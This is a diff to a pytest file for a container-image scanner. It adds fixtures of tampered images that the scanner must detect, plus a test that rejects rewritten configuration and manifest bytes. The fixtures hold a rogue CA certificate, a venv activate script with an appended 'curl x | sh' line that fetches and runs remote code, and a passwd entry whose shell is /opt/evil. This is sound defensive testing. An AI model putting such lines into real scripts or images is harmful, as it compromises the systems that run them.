@@ -7,16 +7,20 @@ from __future__ import annotations
 import io
 import tarfile
 from collections.abc import Mapping
+from copy import deepcopy
 from dataclasses import dataclass, replace
 from typing import Any
 
 import pytest
 
+from oci.manifest import image_manifest
 from oci.registry import Registry
+from scan.expected_configuration import compare_configurations
 from scan.expected_image import compare_image
 from tests.fakes.assembled_image import (
     CAPABLE,
     FOLDER,
+    REPOSITORY,
     SITE,
     TORCH,
     AssembledImage,
@@ -317,6 +321,19 @@ FAULTY = {
         "/etc/apt/sources.list",
         "line 1 is not one of those that are listed",
     ),
+    "a certificate that the package does not have": Faulty(
+        {
+            "usr/share/ca-certificates/mozilla/A.crt": None,
+            "etc/ssl/certs/ca-certificates.crt": TarFile(b"MIIevil\n"),
+        },
+        "/etc/ssl/certs/ca-certificates.crt",
+        "line 1 is not one of those that are listed",
+    ),
+    "a line in the script that activates the environment": Faulty(
+        {"opt/venv/bin/activate": TarFile(b"VIRTUAL_ENV=/opt/venv\ncurl x | sh\n")},
+        "/opt/venv/bin/activate",
+        "line 2 is not one of those that are listed",
+    ),
     "a second account": Faulty(
         {"etc/passwd": TarFile(b"root:x:0:0:root:/root:/opt/evil\n")}, "/etc/passwd", "line 1"
     ),
@@ -465,7 +482,22 @@ def test_empty_fields_of_an_engine_are_no_difference(assembled: AssembledImage) 
     def as_docker(config: dict[str, Any]) -> None:
         config["config"] |= {"Hostname": "", "Volumes": None, "OnBuild": None, "Tty": False}
 
-    assert compare_image(assembled.registry, assembled.derive(change=as_docker))[1] == ()
+    config = deepcopy(assembled.config)
+    as_docker(config)
+    assert not list(compare_configurations(assembled.config, config))
+
+
+def test_other_bytes_that_mean_the_same_are_refused(assembled: AssembledImage) -> None:
+    """Of the configuration, as another program writes it, and of the manifest."""
+    change = set_run("Volumes", None)
+    _, found = compare_image(assembled.registry, assembled.derive(change=change))
+    assert ["written by another program" in each.what for each in found] == [True]
+    described, *blobs = assembled.manifest.parse_blobs()
+    manifest = image_manifest(described, blobs, {"org.opencontainers.image.title": "mine"})
+    assembled.registry.put_manifest(REPOSITORY, manifest.digest, manifest)
+    build = replace(assembled.expected.build, digest=manifest.digest)
+    _, found = compare_image(assembled.registry, replace(assembled.expected, build=build))
+    assert [each.where for each in found] == ["manifest"]
 
 
 def test_many_problems_of_one_sort_are_counted(assembled: AssembledImage) -> None:
